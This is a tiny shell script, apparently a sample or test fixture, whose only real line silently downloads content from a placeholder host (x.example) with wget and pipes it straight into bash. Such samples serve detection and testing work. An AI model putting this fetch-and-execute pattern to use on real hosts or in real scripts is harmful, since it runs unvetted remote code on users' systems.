#!/bin/sh
echo
wget -qO- https://x.example/a | /bin/bash
